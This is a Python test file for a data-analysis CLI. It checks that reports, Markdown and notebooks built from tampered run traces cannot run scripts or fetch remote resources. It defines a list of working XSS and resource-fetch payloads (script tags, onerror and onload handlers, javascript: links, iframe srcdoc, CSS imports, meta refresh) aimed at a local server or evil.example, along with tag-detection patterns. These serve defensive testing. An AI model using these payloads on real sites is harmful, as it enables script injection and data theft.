"""A run in which everything a stranger can word is an attack: nothing of it runs, and nothing is fetched, anywhere.

Covers ht-1, ht-3 and md-1. The browser is a real one; that the attacks are real is shown on a page that does not care.
"""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from example_run import GUIDED, PARAMETERS, SETUP, chart, error, png, printed, turn
from hypothesis import HealthCheck, given, settings
from markdown_it import MarkdownIt
from test_trace import in_order, values

from deepanalyze_cli.outputs.folder import RunFolder
from deepanalyze_cli.outputs.html import _sanitised, to_html
from deepanalyze_cli.outputs.notebook import analysis_notebook, trace_notebook
from deepanalyze_cli.outputs.report import to_markdown, to_report
from deepanalyze_cli.types import Column, DataSource, Output, Run, Table

RAN = "document.documentElement.setAttribute('data-ran','1')"
BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), "")


def attacks(url: str) -> list[str]:
    """Texts that run something or fetch something below `url` on a page or in a notebook that lets them."""
    run = f"{RAN};fetch('{url}/ran')"
    return [
        f"<script>{run}</script>",
        f"<script src={url}/src.js></script>",
        f'<img src={url}/img.png onerror="{run}">',
        f'<svg onload="{run}"><image href="{url}/svg.png"/></svg>',
        f'<iframe srcdoc="<script>fetch(&quot;{url}/doc&quot;)</script>"></iframe><iframe src="{url}/frame"></iframe>',
        f'<base href="{url}/base/"><img src="relative.png">',
        f'<form action="{url}/form"><input autofocus onfocus="{run}"></form>',
        f'<a href="{url}/a" ping="{url}/ping">x</a><a href="javascript:{run}">y</a>',
        f"<style>@import url({url}/import.css); * {{ background: url({url}/css.png) }}</style>",
        f'<link rel="stylesheet" href="{url}/link.css"><link rel="prefetch" href="{url}/fetch">',
        f'<video src="{url}/video" poster="{url}/poster" autoplay></video><object data="{url}/object"></object>',
        f"\" onerror=\"{run}\" x=\"' onload='{run}' y='",
        f"'\"></style></title></textarea></pre></code>--><script>{run}</script>",
        f"![x]({url}/md.png) [x]({url}/md) <{url}/auto> ![x][r] [r]: {url}/ref.png\n\n[r]: {url}/ref.png\n\n![y][r]",
        f"$\\href{{{url}/tex}}{{x}}$ \\\\(\\href{{javascript:{run}}}{{x}}\\\\) \\begin{{a}}",
        f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
    ]


def hostile_run(url: str) -> Run:
    """A run in which each text of a stranger is all of the attacks."""
    evil = "\n".join(attacks(url))
    line = " ".join(attacks(url))
    column = Column(line, line, 1, 1, (line,), line, line)
    table = Table(line, 1, (column,), line, notes=(line,))
    source = DataSource(line, line, line, 1, line, (table, table))
    picture = {"image/png": png(1), "text/html": evil, "image/svg+xml": evil, "application/javascript": evil}
    broken = Output("display", {"image/png": f'{png(2)}"><script>{RAN}</script>', "text/plain": evil})
    outputs = (
        *(printed(evil), chart(60, f"[figure {line}: title '{line}'; x '{line}': {line}; 2 bars]")),
        *(Output("display", picture | {"text/plain": evil}), broken, Output("result", {"text/plain": evil}), chart(9)),
    )
    asked, code = ("analyze", line), ("code", f"x = '''{evil}'''\nplt.title({line!r})")
    failed = (error(line, evil, f"Cell In[1], line 1\n{evil}"), printed(evil))
    turns = (
        turn(0, "plan", asked, section=1),
        turn(1, "code", asked, code, section=1, outputs=failed, status="error", note=evil),
        turn(2, "code", asked, code, section=1, outputs=outputs, files=(f"{line}.png",)),
        turn(3, "finding", asked, code, ("answer", evil), section=1, outputs=outputs),
        turn(4, "chart", asked, code, section=1, outputs=outputs),
        turn(5, "plan", asked, section=2, status="format"),
        turn(6, "summary", ("answer", evil)),
    )
    return replace(
        GUIDED,
        id=line,
        task=replace(GUIDED.task, question=evil, sources=(source,), notes=(evil,)),
        model=replace(GUIDED.model, name=line, file=line, sha256=line),
        turns=turns,
        stop="failed",
        answer=evil,
        error=evil,
        sandbox=line,
        changed=(line,),
    )


def runs(url: str) -> list[Run]:
    """It as a guided and as a free run."""
    guided = hostile_run(url)
    free = replace(guided, model=replace(guided.model, strategy="free"), answer=f"# {guided.answer}\n{guided.answer}")
    return [guided, free]


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """A server that counts: its address and the paths it was asked for."""
    asked: list[str] = []

    class Counting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Counting) as listening:
        thread = threading.Thread(target=listening.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{listening.server_port}", asked
        listening.shutdown()
        thread.join()


def browse(page: Path, profile: Path) -> str:
    """Open a page in a browser for three seconds of its time; the document as it is then."""
    options = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run")
    quiet = ("--disable-background-networking", "--disable-component-update", "--virtual-time-budget=3000")
    command = [BROWSER, *options, *quiet, f"--user-data-dir={profile}", "--dump-dom", page.as_uri()]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout


@pytest.mark.skipif(not BROWSER, reason="there is no Chromium here")
def test_in_a_browser_nothing_runs_and_nothing_is_fetched(tmp_path: Path, server: tuple[str, list[str]]):
    url, asked = server
    careless = tmp_path / "careless.html"
    careless.write_text(f"<!doctype html><body>{' '.join(attacks(url)[:-1])}")
    assert "data-ran" in browse(careless, tmp_path / "profile")
    assert {"/src.js", "/img.png", "/ran", "/frame"} <= {*asked}, "the attacks are none, so nothing would be proved"
    asked.clear()
    for number, run in enumerate(runs(url)):
        folder = RunFolder.create(tmp_path / f"{number}", "x", "y", GUIDED.started)
        folder.write_artefacts(run, parameters=PARAMETERS, setup=SETUP, manifest={})
        opened = browse(folder.report_html, tmp_path / "profile")
        assert 'data-ran="1"' not in opened.partition("<body")[0], "a script ran"
        assert "<figure>" in opened and "</html>" in opened
    assert asked == []


TAGS = re.compile(r"<\s*(script|img|svg|iframe|base|form|meta|a|style|link|video|object|image|input)\b[^>]*>", re.I)
LIVE = re.compile(r"https?:|javascript:|onerror|onload|onfocus|ping=|srcdoc", re.I)


@pytest.mark.parametrize("number", [0, 1], ids=["guided", "free"])
def test_no_tag_of_a_page_leads_anywhere(number: int):
    run = runs("http://evil.example")[number]
    for tag in TAGS.finditer(to_html(to_report(run), run)):
        assert not LIVE.search(re.sub(r'alt="[^"]*"', "", tag[0])), tag[0][:300]


def test_the_second_layer_stops_them_without_the_first():
    for attack in attacks("http://evil.example"):
        for tag in re.findall("<[^>]*>", _sanitised(f'<p style="background:url(http://e)">{attack}')):
            assert re.fullmatch(r"</?(p|pre|code)>", tag), tag


@pytest.mark.parametrize("number", [0, 1], ids=["guided", "free"])
@pytest.mark.parametrize("preset", ["commonmark", "gfm-like"])
def test_no_markdown_leads_anywhere(number: int, preset: str):
    run = runs("http://evil.example")[number]
    reader = MarkdownIt(preset, {"linkify": False} if preset == "gfm-like" else {})
    books = [make(run, PARAMETERS, SETUP) for make in (trace_notebook, analysis_notebook)]
    texts = [cell.source for book in books for cell in book.cells if cell.cell_type == "markdown"]
    for text in [to_markdown(to_report(run), run), *texts]:
        for token in (t for block in reader.parse(text) for t in (block, *(block.children or ()))):
            if token.type in ("html_block", "html_inline"):
                assert re.fullmatch(r'(<a id="cell-\d+">|</a>|<a id="cell-\d+"></a>)\n?', token.content), token.content
            target = str(token.attrs.get("src") or token.attrs.get("href") or "")
            assert re.fullmatch(r"(figures/figure-\d+\.png|#cell-\d+)?", target), target
            if token.type == "inline":  # what a notebook would typeset
                assert not re.search(r"\\(href|require|class)", token.content), token.content[:300]


@pytest.mark.parametrize("number", [0, 1], ids=["guided", "free"])
def test_a_notebook_has_text_and_pictures_only(number: int):
    run = runs("http://evil.example")[number]
    for make in (trace_notebook, analysis_notebook):
        book = make(run, PARAMETERS, SETUP)
        for output in (o for cell in book.cells for o in cell.get("outputs", [])):
            assert {*output.get("data", {})} <= {"text/plain", "image/png"}
            if picture := output.get("data", {}).get("image/png"):
                assert base64.b64decode(picture, validate=True).startswith(b"\x89PNG")
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", json.dumps(book, ensure_ascii=False))


@given(run=values(Run))
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
def test_whatever_a_trace_says_it_can_be_shown(run: Run):
    """A trace that was tampered with may say anything that its form allows."""
    run = in_order(run)
    report = to_report(run)
    to_markdown(report, run).encode()
    to_html(report, run).encode()
    for make in (trace_notebook, analysis_notebook):
        json.dumps(make(run, PARAMETERS, SETUP))
